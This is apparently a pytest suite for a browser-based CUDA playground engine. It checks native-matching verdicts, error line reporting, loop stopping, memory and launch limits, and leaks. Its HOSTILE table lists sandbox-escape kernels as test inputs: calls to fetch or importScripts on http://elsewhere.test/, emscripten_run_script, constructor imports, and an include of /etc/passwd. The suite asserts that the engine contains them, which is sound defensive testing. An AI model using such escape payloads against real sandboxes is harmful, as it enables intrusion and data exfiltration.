"""The playground's engine in Chromium and in Firefox: what a visitor can do to it, and cannot."""

from __future__ import annotations

import json

import pytest

from support.engines import request, resident_bytes
from support.truths import native, planted, verdict

# The first use of a machine fetches and compresses the compiler.
pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]
#: Of each kind of finding one.
SOME = (
    "reads_far_outside",
    "null_pointer",
    "uninitialised_shared",
    "barrier_by_some_lanes",
    "flag_that_no_thread_sets",
    "local_outside",
    "missing_barrier",
    "missing_barrier_right",
)
FILL = "__global__ void k(int* x) { x[threadIdx.x] = 7; }"
#: Code that tries to leave its module, and what it gets: the kind of the error, or "" and a report.
HOSTILE = {
    "a function of the page": (
        'extern "C" void fetch(const char*);\n'
        '__global__ void k(int* x) { fetch("http://elsewhere.test/"); }', "compile"),
    "an import of another module": (
        'extern "C" __attribute__((import_module("globalThis"), import_name("importScripts")))\n'
        'void scripts(const char*);\n'
        '__global__ void k(int* x) { scripts("http://elsewhere.test/a.js"); }', "compile"),
    "a name of every object": (
        'extern "C" __attribute__((import_module("constructor"), import_name("constructor")))\n'
        "void made(const char*);\n"
        '__global__ void k(int* x) { made("postMessage(1)"); }', "compile"),
    "a script": (
        'extern "C" void emscripten_run_script(const char*);\n'
        "__global__ void k(int* x) { emscripten_run_script(\"fetch('http://elsewhere.test/')\"); }",
        "compile"),
    "assembly": ('__global__ void k(int* x) { asm("call fetch"); }', "compile"),
    "a file": ('#include "/etc/passwd"\n__global__ void k(int* x) { x[0] = 1; }', "compile"),
    "all memory": (
        "__global__ void k(int* x) { x[0] = __builtin_wasm_memory_grow(0, 65535); }", ""),
    "4 GiB of variables": (
        "__device__ int all[1 << 30];\n__global__ void k(int* x) { all[threadIdx.x] = 1; }",
        "compile"),
    "endless recursion": (
        "__device__ int deep(int n) { return n ? deep(n - 1) + deep(n - 2) : 0; }\n"
        "__global__ void k(int* x) { x[0] = deep(1 << 30); }", ""),
}  # fmt: skip


@pytest.mark.parametrize("name", SOME)
def test_a_planted_kernel_has_the_same_verdict(engine, lab_compiler, name):
    asked = planted(name)
    assert verdict(engine.run(asked)) == verdict(native(asked))


HEADERS = {
    "atomic references": (
        "#include <cuda/atomic>\n__global__ void k(int* x) {\n"
        "  cuda::atomic_ref<int, cuda::thread_scope_device>(x[0]).fetch_add(1);\n}"
    ),
    "vectors of the samples": (
        "#include <helper_math.h>\n__global__ void k(int* x) {\n"
        "  float3 v = make_float3(1, 2, 3) * 2.0f;\n  x[threadIdx.x] = int(dot(v, v));\n}"
    ),
    "constant variables": (
        "__constant__ int factors[4] = {1, 2, 3, 4};\n"
        "__global__ void k(int* x) { x[threadIdx.x] = factors[threadIdx.x % 4]; }"
    ),
    "macros": (
        "#ifdef __CUDA_ARCH__\n#define VALUE (__CUDA_ARCH__ / 100)\n#endif\n"
        "__global__ void k(int* x) { x[threadIdx.x] = VALUE; }"
    ),
}


@pytest.mark.parametrize("name", HEADERS)
def test_what_a_source_includes_and_declares_is_there(engine, lab_compiler, name):
    asked = request(HEADERS[name], ["zeros:int32:64"])
    found = engine.run(asked)
    assert found.get("ok"), found
    assert verdict(found) == verdict(native(asked))


def test_a_function_that_rounds_otherwise_is_refused_at_its_line(engine):
    code = "__global__ void k(float* x) {\n  x[threadIdx.x] = __fadd_rz(x[0], 1.5f);\n}"
    found = engine.run(request(code, ["zeros:float32:64"]))
    assert found["kind"] == "compile"
    assert [mark["line"] for mark in found["marks"]] == [2]


def test_an_error_of_the_compiler_has_its_line(engine):
    found = engine.run(request("__global__ void k(int* x) {\n  int y = threadIdx.x\n  x[y] = 1; }"))
    assert found["kind"] == "compile"
    assert [mark["line"] for mark in found["marks"]] == [2]


def test_a_loop_without_end_is_stopped_and_the_engine_goes_on(engine):
    loop = "__global__ void k(int* x) { while (atomicAdd(x, 1) >= 0) {} }"
    asked = json.dumps(request(loop, ["zeros:int32:1"], schedules=1000))
    stopped = engine.evaluate(f"""new Promise((done) => {{
      engine.run({asked}).catch((error) => done(error.kind));
      setTimeout(() => engine.stop(), 3000);
    }})""")
    assert stopped == "stopped"
    assert runs(engine)


@pytest.mark.parametrize(
    "args", [["zeros:int32:1073741824"], ["zeros:uint8:60000000"] * 64, ["zeros:float64:8388609"]]
)
def test_arguments_of_more_memory_than_there_is_are_refused_in_words(engine, args):
    parameters = ", ".join(
        f"{'double' if 'float' in args[0] else 'void'}* x{n}" for n, _ in enumerate(args)
    )
    found = engine.run(request(f"__global__ void k({parameters}) {{}}", args))
    assert found["kind"] == "request"
    assert "more than 64 MiB" in found["message"], found["message"][-300:]
    assert runs(engine)


def test_a_huge_launch_is_refused_in_words(engine):
    found = engine.run(request(FILL, grid=1 << 30))
    assert found["kind"] == "request"
    assert found["message"].startswith("68,719,476,736 threads; ")
    found = engine.run(request(FILL, shared=1 << 30))
    assert found["kind"] == "request"
    assert found["message"].startswith("shared is 1,073,741,824; ")
    assert runs(engine)


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_code_does_not_leave_its_module(engine, what):
    code, kind = HOSTILE[what]
    found = engine.run(request(code, ["zeros:int32:64"], schedules=1))
    assert found.get("kind", "") == kind, found
    assert "Error" not in found.get("message", ""), found  # an exception of the engine's own
    assert runs(engine)
    assert engine.listener.heard() == []


def test_runs_need_no_network(engine):
    engine.site.cut = True
    try:
        assert runs(engine, 8)
    finally:
        engine.site.cut = False
    assert engine.listener.heard() == []
    engine.evaluate("fetch('http://control.test/').catch(() => null)")
    assert engine.listener.heard() == ["http://control.test/"]  # it does listen
    engine.listener.forget()


def test_fifty_edits_leave_nothing_behind(engine):
    def edits(first, many):
        """Return the memory after each of many edits."""
        found = []
        for number in range(first, first + many):
            assert runs(engine, number)
            found.append(resident_bytes())
        return found

    edits(100, 15)  # until all code is compiled, and the heaps have their size
    # The browser frees memory now and then: what stays is seen where there is least of it. An
    # instance of the executor that stays has 3 MB and more, the compiler's files 30.
    assert min(edits(200, 50)) + (120 << 20) > min(edits(300, 50))


def runs(engine, value=7):
    """Whether the engine compiles and runs a kernel."""
    report = engine.run(request(FILL.replace("7", str(value))))
    return report["ok"] and report["arrays"][0]["values"] == [value] * 64
